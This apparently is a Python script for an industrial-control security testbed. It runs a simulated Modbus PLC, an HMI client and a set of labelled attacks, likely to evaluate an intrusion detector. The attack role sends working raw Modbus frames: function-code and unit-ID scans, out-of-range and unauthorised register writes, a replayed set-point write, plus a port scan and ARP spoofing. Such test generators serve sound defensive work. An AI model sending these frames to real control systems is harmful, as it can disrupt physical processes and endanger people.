#!/usr/bin/env python3
"""Roles of the Shinrai OT evaluation plant, each run inside its own network namespace.

  plc     a Modbus/TCP PLC (pymodbus server) with process values that move within a range
  hmi     the HMI (pymodbus client): polls two PLCs and writes set points as the work plan says
  attack  one labelled attack (raw sockets, as an attacker's tool would)

Only addresses given on the command line (10.77.<seed>.0/24 inside the namespaces) are used.
"""
import argparse
import asyncio
import json
import random
import socket
import struct
import sys
import time


def plc(args):
    from pymodbus.datastore import ModbusSequentialDataBlock, ModbusServerContext, ModbusSlaveContext
    from pymodbus.server import StartAsyncTcpServer

    rng = random.Random(args.seed)
    hr = ModbusSequentialDataBlock(0, [0] * 100)
    ir = ModbusSequentialDataBlock(0, [0] * 100)
    co = ModbusSequentialDataBlock(0, [0] * 100)
    store = ModbusSlaveContext(hr=hr, ir=ir, co=co, di=ModbusSequentialDataBlock(0, [0] * 100))
    ctx = ModbusServerContext(slaves={1: store}, single=False)

    async def process():
        while True:
            # Process values: temperatures 200..260, a level 500..520, a state word.
            vals = [rng.randint(200, 260) for _ in range(8)] + [rng.randint(500, 520), rng.choice([0, 1, 2])]
            store.setValues(3, 0, vals)
            store.setValues(4, 0, vals)
            store.setValues(1, 0, [rng.random() < 0.5 for _ in range(16)])
            await asyncio.sleep(0.5)

    async def main():
        asyncio.get_running_loop().create_task(process())
        await StartAsyncTcpServer(context=ctx, address=(args.ip, 502))

    asyncio.run(main())


def hmi(args):
    from pymodbus.client import AsyncModbusTcpClient

    plan = json.load(open(args.plan))
    windows = [(e["from_s"], e["to_s"]) for e in plan["windows"]]
    fast = json.load(open(args.schedule)) if args.schedule else []
    rng = random.Random(args.seed)
    end = time.time() + args.duration

    def period(base):
        now = time.time()
        for f in fast:
            if f["from_s"] <= now <= f["to_s"]:
                return f["period"]
        return base

    async def poll_plc1(c):
        n = 0
        while time.time() < end:
            await c.read_holding_registers(0, count=10, slave=1)
            if n % 2 == 0:
                await c.read_coils(0, count=16, slave=1)
            n += 1
            await asyncio.sleep(period(1.0))

    async def writes(c):
        while time.time() < end:
            now = time.time()
            if any(a + 1 <= now <= b - 1 for a, b in windows):
                await c.write_register(40, rng.randint(100, 140), slave=1)
                await asyncio.sleep(3.0)
            else:
                await asyncio.sleep(0.2)

    async def poll_plc2(c):
        while time.time() < end:
            await c.read_input_registers(0, count=10, slave=1)
            await asyncio.sleep(0.5)

    async def main():
        c1 = AsyncModbusTcpClient(args.plc1, port=502)
        c2 = AsyncModbusTcpClient(args.plc2, port=502)
        for _ in range(50):
            if await c1.connect() and await c2.connect():
                break
            await asyncio.sleep(0.2)
        await asyncio.gather(poll_plc1(c1), writes(c1), poll_plc2(c2))
        c1.close()
        c2.close()

    asyncio.run(main())


def mbap(tid, unit, pdu):
    return struct.pack(">HHHB", tid, 0, len(pdu) + 1, unit) + pdu


def send_frames(target, frames, gap=0.1, read=True):
    s = socket.create_connection((target, 502), timeout=2)
    for f in frames:
        s.sendall(f)
        if read:
            try:
                s.recv(512)
            except OSError:
                pass
        time.sleep(gap)
    s.close()


def attack(args):
    k, t = args.kind, args.target
    if k == "new_device":
        send_frames(t, [mbap(1, 1, struct.pack(">BHH", 3, 0, 10))])
    elif k == "fc_scan":
        fcs = [f for f in range(0, 45) if f not in (1, 3, 6)]
        send_frames(t, [mbap(100 + i, 1, struct.pack(">BHH", f, 0, 1)) for i, f in enumerate(fcs)], gap=0.05)
    elif k == "unit_id_scan":
        send_frames(t, [mbap(200 + u, u, struct.pack(">BHH", 3, 0, 10)) for u in range(2, 30)], gap=0.05, read=False)
    elif k == "port_scan":
        for port in range(1, 201):
            s = socket.socket()
            s.settimeout(0.02)
            try:
                s.connect((t, port))
            except OSError:
                pass
            s.close()
    elif k == "out_of_range_write":
        send_frames(t, [mbap(300, 1, struct.pack(">BHH", 6, 40, 5000))])
    elif k == "unusual_register_write":
        send_frames(t, [mbap(301, 1, struct.pack(">BHH", 6, 77, 120))])
    elif k == "unusual_fc":
        send_frames(t, [mbap(302, 1, bytes([0x2B, 0x0E, 0x01, 0x00]))])
    elif k == "replay":
        # The bytes of a valid set-point write, replayed outside its work-plan window.
        send_frames(t, [mbap(7, 1, struct.pack(">BHH", 6, 40, 120))])
    elif k == "arp_spoof":
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        s.bind((args.iface, 0))
        mac = bytes.fromhex(open(f"/sys/class/net/{args.iface}/address").read().strip().replace(":", ""))
        ip = socket.inet_aton(t)
        for _ in range(3):
            arp = struct.pack(">HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac, ip, b"\xff" * 6, ip)
            s.send(b"\xff" * 6 + mac + b"\x08\x06" + arp)
            time.sleep(1.0)
    else:
        sys.exit(f"unknown attack {k}")


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="role", required=True)
    a = sub.add_parser("plc")
    a.add_argument("--ip", required=True)
    a.add_argument("--seed", type=int, default=1)
    a = sub.add_parser("hmi")
    a.add_argument("--plc1", required=True)
    a.add_argument("--plc2", required=True)
    a.add_argument("--plan", required=True)
    a.add_argument("--schedule")
    a.add_argument("--duration", type=float, required=True)
    a.add_argument("--seed", type=int, default=1)
    a = sub.add_parser("attack")
    a.add_argument("--kind", required=True)
    a.add_argument("--target", required=True)
    a.add_argument("--iface", default="eth0")
    args = p.parse_args()
    {"plc": plc, "hmi": hmi, "attack": attack}[args.role](args)


if __name__ == "__main__":
    main()
